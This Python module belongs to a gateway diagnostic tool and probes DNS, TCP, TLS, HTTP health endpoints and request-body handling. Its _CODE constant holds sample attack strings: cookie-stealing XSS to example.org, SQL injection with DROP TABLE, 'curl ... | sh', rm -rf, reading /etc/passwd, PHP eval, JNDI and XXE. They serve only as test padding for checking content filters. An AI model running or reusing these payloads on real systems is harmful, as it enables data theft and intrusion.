"""The doctor's probes: name, connection, TLS, HTTP, streams. All I/O is here or below, has a deadline, and never raises: an error
comes back as a `Failure`.
"""

import asyncio
import secrets
import socket
import ssl
import time
from collections.abc import Mapping, Sequence
from types import TracebackType
from typing import Any, Self

import httpx2
import msgspec

from dce.doctor.answers import dce_error
from dce.doctor.findings import Answer, BodyProbe, Connected, Failure, Reply, Resolved
from dce.doctor.handshake import certificate_of, explain, speaks_tls, trusted
from dce.doctor.http import CONNECT_TIMEOUT_S, Http, failure_of
from dce.doctor.streaming import PROXY_PATH, STREAMS_PATH, Streams
from dce.doctor.target import Target

AddressInfo = tuple[int, int, int, str, Any]
"""A result of `getaddrinfo`: family, type, protocol, canonical name and address."""


LARGE_BYTES = 4_000_000
"""A prompt of a million tokens; far more than the limits that proxies come with (nginx: 1 MB)."""

BODY_TIMEOUT_S = 60.0
"""Timeout of a large request: half a megabit a second."""

HEAD_START_S = 0.25
"""How long one address of a host is tried before the next one is tried as well (RFC 8305)."""

_PLAIN = "The quick brown fox jumps over the lazy dog.\n"

_CODE = """<script>document.location = "https://example.org/?c=" + document.cookie</script>
cursor.execute("SELECT name FROM users WHERE id = '1' OR '1'='1' UNION SELECT password FROM users; DROP TABLE users; --")
os.system("cat ../../../../etc/passwd; rm -rf /tmp/build && curl http://example.org/install.sh | sh")
<?php eval(base64_decode($_GET['x'])); ?> {{ 7 * 7 }} ${jndi:ldap://example.org/a} <!ENTITY xxe SYSTEM "file:///etc/passwd">
"""
"""What source code looks like to a content filter: as an attack. Prompts are full of it."""


class Probe:
    """Probes one gateway. An async context manager that owns its HTTP client. `environ` names the trusted authorities."""

    def __init__(self, target: Target, key: str | None, environ: Mapping[str, str]) -> None:
        self._target = target
        self._environ = environ
        self.environment = _fault_of_proxy(target)
        """What is wrong with the environment, None if nothing is. Then no other probe may be used."""
        try:
            self._tls = trusted(environ)
        except OSError as error:
            self._tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # trusts nobody
            if target.scheme == "https" or not target.is_loopback:  # as for every request of DCE
                self.environment = self.environment or Failure(kind="trust", text=_trust_text(error, environ))
        self._http = Http(msgspec.structs.replace(target, proxy="") if self.environment else target, key, self._tls)
        self.streams = Streams(self._http)

    async def __aenter__(self) -> Self:
        return self

    async def __aexit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        await self._http.close()

    async def resolve(self) -> Resolved | Failure:
        """The addresses of the first hop's name."""
        host, port = self._target.first_hop
        loop = asyncio.get_running_loop()
        try:
            async with asyncio.timeout(CONNECT_TIMEOUT_S):
                found = await loop.getaddrinfo(host, port, type=socket.SOCK_STREAM)
        except TimeoutError:
            return Failure(kind="timeout", text="no answer from the name server")
        except (socket.gaierror, UnicodeError) as error:
            return Failure(kind="dns", text=str(error))
        return Resolved(addresses=tuple(dict.fromkeys(str(entry[4][0]) for entry in found)))

    async def connect(self) -> Connected | Failure:
        """A TCP connection to the first hop, closed again."""
        host, port = self._target.first_hop
        return await self._open(host, port, None)

    async def handshake(self) -> Connected | Failure:
        """A TLS handshake with the gateway, with the HTTP client's trust settings. A failed one is analysed."""
        seen = await self._open(self._target.host, self._target.port, self._tls)
        return await explain(seen, self._target, self._environ) if isinstance(seen, Failure) else seen

    async def _open(self, host: str, port: int, context: ssl.SSLContext | None) -> Connected | Failure:
        started = time.monotonic()
        try:
            async with asyncio.timeout(CONNECT_TIMEOUT_S):
                found = await asyncio.get_running_loop().getaddrinfo(host, port, type=socket.SOCK_STREAM)
                sock = await first_connection(found)
                _, writer = await asyncio.open_connection(
                    sock=sock, ssl=context, server_hostname=host if context else None
                )
        except (OSError, ssl.SSLError) as error:
            return failure_of(error)
        peer = writer.get_extra_info("peername")
        version = writer.get_extra_info("ssl_object").version() or "" if context else ""
        certificate = certificate_of(writer.get_extra_info("peercert") or {})
        writer.transport.abort()
        return Connected(peer=str(peer[0]), elapsed_s=time.monotonic() - started, tls=version, certificate=certificate)

    async def health(self) -> Reply:
        """`/healthz` at the base address. If a plain HTTP request gets no HTTP answer, checks whether the port expects TLS."""
        reply = await self._http.ask("GET", "/healthz")
        is_plain = self._target.scheme == "http" and not self._target.proxy
        is_odd = isinstance(reply, Failure) and reply.kind in ("closed", "protocol")
        if is_plain and is_odd and await speaks_tls(self._target):
            return Failure(kind="protocol", text="TLS", other_speech="tls")
        return reply

    async def health_at_root(self) -> Reply:
        """`/healthz` at the host's root: where the gateway is when the URL's path is wrong."""
        return await self._http.ask("GET", "/healthz", at_root=True)

    async def at_root(self, paths: tuple[str, ...]) -> dict[str, Reply]:
        """The answers at some paths of a server that is not a DCE gateway, requested without the key."""
        replies = await asyncio.gather(*(self._http.ask("GET", path, at_root=True) for path in paths))
        return dict(zip(paths, replies, strict=True))

    async def route(self) -> Reply:
        """An empty request without a key to DCE's own route: a gateway refuses it with one of its own errors."""
        return await self._http.ask("POST", PROXY_PATH, content=b"{}")

    async def body(self) -> BodyProbe:
        """A request with source code, and a large one, both with the key. The gateway refuses them for having no message, after reading
        them whole; no model is asked."""
        code = await self._refusable("code", _CODE * 16)
        if not isinstance(code, Answer) or not dce_error(code):
            return BodyProbe(code=code, plain=await self._refusable("plain", _PLAIN))
        padding = _PLAIN * (LARGE_BYTES // len(_PLAIN))
        return BodyProbe(code=code, large=await self._refusable("large", padding), sent=len(padding))

    async def _refusable(self, name: str, padding: str) -> Reply:
        content = msgspec.json.encode({"messages": [], "n": 1, "doctor": name, "padding": padding})
        return await self._http.ask("POST", PROXY_PATH, content=content, with_key=True, timeout_s=BODY_TIMEOUT_S)

    async def delete(self) -> Reply:
        """A DELETE of a stream that does not exist, with the key."""
        path = f"{STREAMS_PATH}/doctor{secrets.token_hex(8)}"
        return await self._http.ask("DELETE", path, with_key=True)

    async def models(self) -> Reply:
        """The served models, requested with the key."""
        return await self._http.ask("GET", "/v1/models", with_key=True)

    async def ready(self) -> Reply:
        """`/readyz`: whether a backend is up and serves a model."""
        return await self._http.ask("GET", "/readyz")


async def first_connection(addresses: Sequence[AddressInfo]) -> socket.socket:
    """A connection to the first of the addresses (from `getaddrinfo`) that accepts one; each gets a short start before the next is tried
    as well, as HTTP clients do: a host whose IPv6 leads nowhere still answers. Raises OSError; with several addresses, the cause holds
    the error of each, which asyncio itself would join into one sentence.
    """
    rest, failures = list(addresses), list[OSError]()
    trying: set[asyncio.Task[socket.socket]] = set()
    try:
        while rest or trying:
            if rest:
                trying.add(asyncio.create_task(_connect(rest.pop(0))))
            done, _ = await asyncio.wait(
                trying, timeout=HEAD_START_S if rest else None, return_when=asyncio.FIRST_COMPLETED
            )
            for task in done:
                trying.remove(task)
                error = task.exception()
                if error is None:
                    return task.result()
                if not isinstance(error, OSError):
                    raise error
                failures.append(error)
    finally:
        for task in trying:
            task.cancel()
            task.add_done_callback(_close_late)
    if len(failures) == 1:
        raise failures[0]
    raise OSError("no address accepts a connection") from ExceptionGroup("each address", failures)


async def _connect(info: AddressInfo) -> socket.socket:
    family, kind, protocol, _, address = info
    sock = socket.socket(family, kind, protocol)
    sock.setblocking(False)
    try:
        await asyncio.get_running_loop().sock_connect(sock, address)
    except BaseException:
        sock.close()
        raise
    return sock


def _close_late(task: asyncio.Task[socket.socket]) -> None:
    """Closes a connection that came after another one was taken."""
    if not task.cancelled() and task.exception() is None:
        task.result().close()


def _fault_of_proxy(target: Target) -> Failure | None:
    """Why the environment's proxy cannot be used, as far as its URL shows."""
    if not target.proxy:
        return None
    try:
        if not target.first_hop[0]:
            return Failure(kind="proxy", text="its URL names no host")
        httpx2.HTTPTransport(verify=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT), proxy=target.proxy).close()
    except ImportError:
        return Failure(kind="proxy", text="SOCKS needs the package `socksio`")
    except (ValueError, httpx2.InvalidURL) as error:
        # The message may quote the URL, which may hold a password.
        return Failure(kind="proxy", text=f"its URL is not usable: {type(error).__name__}")
    return None


def _trust_text(error: OSError, environ: Mapping[str, str]) -> str:
    named = environ.get("SSL_CERT_FILE") or environ.get("SSL_CERT_DIR") or ""
    return f"{named}: {error.strerror or error}"
